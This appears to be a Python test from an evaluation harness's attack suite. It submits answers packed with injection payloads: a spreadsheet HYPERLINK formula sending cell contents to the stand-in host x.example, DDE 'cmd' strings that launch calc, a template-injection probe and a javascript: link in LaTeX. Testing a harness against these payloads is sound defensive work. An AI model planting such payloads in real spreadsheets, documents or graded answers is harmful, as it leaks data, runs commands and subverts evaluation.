"""Answers with what a spreadsheet or a page would run: formulas, markup, templates."""

from __future__ import annotations

from tests.attacks.kit import Work


def attack(work: Work) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"mark")'
    row = dict.fromkeys(("platform", "role", "type", "evidence"), formula)
    row["role"], row["type"], row["evidence"] = (
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{{7*7}}",
        "$\\href{javascript:flag()}{x}$:1",
    )
    names = [truth.name for truth in work.key.questions["audit"].truths]
    work.answer("audit", f'answer("audit", {dict.fromkeys(names, row)!r})')
    work.answer("empty-grep", 'answer("empty-grep", "+1+cmd|calc")')
